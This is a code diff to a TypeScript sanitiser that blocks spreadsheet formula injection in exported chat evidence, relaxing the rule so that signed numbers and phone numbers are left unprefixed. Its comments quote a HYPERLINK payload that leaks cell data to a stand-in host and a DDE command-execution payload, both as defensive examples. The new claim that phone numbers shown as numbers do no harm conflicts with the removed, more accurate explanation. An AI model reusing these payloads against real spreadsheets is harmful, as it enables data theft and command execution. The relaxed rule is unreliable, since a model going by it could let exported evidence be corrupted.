@@ -3,25 +3,22 @@
  *
  * Chat messages are attacker-controlled text. A message such as `=HYPERLINK("http://x/?"&A1,"Open")` or
  * `=cmd|' /C calc'!A0` is evaluated by Excel, LibreOffice or Google Sheets when an investigator opens the
- * output, leaking evidence or running commands. OWASP's guidance ("CSV Injection") is to make sure no cell
- * begins with `=`, `+`, `-`, `@`, tab (0x09) or carriage return (0x0D), by prefixing such cells with a
- * single quote so the spreadsheet reads them as text.
+ * output, leaking evidence or running commands. OWASP's guidance ("CSV Injection") is to make sure no such
+ * cell begins with `=`, `+`, `-`, `@`, tab (0x09) or carriage return (0x0D), by prefixing it with a single
+ * quote so the spreadsheet reads it as text.
  *
- * The rule applied here:
- * 1. A cell whose first character is one of `=` `+` `-` `@` tab or carriage return, or the fullwidth forms
- *    `＝` `＋` `－` `＠` (some East Asian Excel builds and input methods turn them into the ASCII operators),
- *    gets a leading `'`.
- * 2. The same applies when those characters follow leading whitespace (spaces, line breaks, no-break
- *    spaces): some importers trim leading whitespace before deciding whether a cell is a formula.
- * 3. One exception: a plain negative number (`-12`, `-12.5`, `-12,5`) is left alone. Excel and LibreOffice
- *    read it as a number constant, not a formula, so there is nothing to evaluate and prefixing it would
- *    only turn a number into text.
- *
- * Phone numbers such as `+44 7700 900123` or `+447700900123` are prefixed. Excel treats a leading `+` as
- * the start of a formula (Lotus 1-2-3 compatibility), so `+44 7700 900123` is parsed as a formula (the
- * spaces are its intersection operator) and `+447700900123` becomes `=+447700900123`, shown as
- * `4.477E+11`. The prefix keeps the number as the text the phone recorded, which is what an investigator
- * needs anyway.
+ * The original columns are evidence too: an analyst copies phone numbers out of them into other systems,
+ * so a cell is only changed when a spreadsheet could run it as code. The rule applied here:
+ * 1. A cell whose first character is tab or carriage return gets a leading `'`.
+ * 2. So does a cell whose first character is `=` or `@`, or the fullwidth forms `＝` `＋` `－` `＠` (some
+ *    East Asian Excel builds and input methods turn them into the ASCII operators).
+ * 3. A cell starting with `+` or `-` gets a leading `'` unless the rest of it holds only digits, spaces
+ *    and the punctuation numbers and phone numbers are written with: `( ) - . , /`. Such a cell
+ *    (`+44 7700 900123`, `+447700900123`, `-12.5`, `+1 (555) 010-0199`) can name no function, cell,
+ *    range or DDE server — those need letters, `:`, `!` or `|` — so there is nothing in it to run. At
+ *    worst a spreadsheet shows it as a number, which is how it shows any other number.
+ * 4. Rules 2 and 3 also apply after leading whitespace (spaces, line breaks, no-break spaces): some
+ *    importers trim it before deciding whether a cell is a formula.
  *
  * Cells are never truncated or otherwise changed; the quote is the only addition. Delimiters, quotes and
  * line breaks inside a cell are the CSV writer's job: it quotes such cells, so text after a comma cannot
@@ -31,8 +28,9 @@
 // First characters that make a spreadsheet treat a cell as a formula (OWASP) plus their fullwidth forms.
 const formulaTriggers = new Set(['=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20']);
 
-// A number constant with at most one decimal separator: a spreadsheet stores it as a number, never evaluates it.
-const negativeNumber = /^-\d+(?:[.,]\d+)?$/;
+// A signed number or a phone number as people write them: nothing after the sign that could name a
+// function, a cell reference or a DDE server, so a spreadsheet has nothing to run.
+const numberOrPhoneNumber = /^[+-][\d ().,/-]*$/;
 
 // Whitespace that an importer might trim before looking at the first character.
 const leadingWhitespace = /^[\s\u00A0\u2007\u202F\uFEFF]*/;
@@ -56,19 +54,21 @@ export function looksLikeSpreadsheetFormula(cell: string): boolean {
   const first = cell.charAt(0);
   if (first === '') return false;
   // Tab and carriage return are triggers themselves, so test the raw first character before trimming.
-  if (formulaTriggers.has(first)) return !negativeNumber.test(cell);
-  const trimmed = cell.slice(leadingWhitespace.exec(cell)?.[0].length ?? 0);
-  if (trimmed.length === cell.length) return false;
-  return formulaTriggers.has(trimmed.charAt(0)) && !negativeNumber.test(trimmed);
+  if (first === '\t' || first === '\r') return true;
+  const trimmed = formulaTriggers.has(first)
+    ? cell
+    : cell.slice(leadingWhitespace.exec(cell)?.[0].length ?? 0);
+  return formulaTriggers.has(trimmed.charAt(0)) && !numberOrPhoneNumber.test(trimmed);
 }
 
 /**
  * Returns `cell` unchanged, or prefixed with a single quote (`'`) when a spreadsheet could evaluate it as a
- * formula. See the module documentation for the exact rule and why phone numbers are prefixed too.
+ * formula. See the module documentation for the exact rule: numbers and phone numbers are left alone.
  *
  * @example
  * neutraliseSpreadsheetFormula('=1+1'); // "'=1+1"
- * neutraliseSpreadsheetFormula('+44 7700 900123'); // "'+44 7700 900123"
+ * neutraliseSpreadsheetFormula('+SUM(A1:A9)'); // "'+SUM(A1:A9)"
+ * neutraliseSpreadsheetFormula('+44 7700 900123'); // "+44 7700 900123"
  * neutraliseSpreadsheetFormula('-12.5'); // "-12.5"
  * neutraliseSpreadsheetFormula('Hola'); // "Hola"
  */
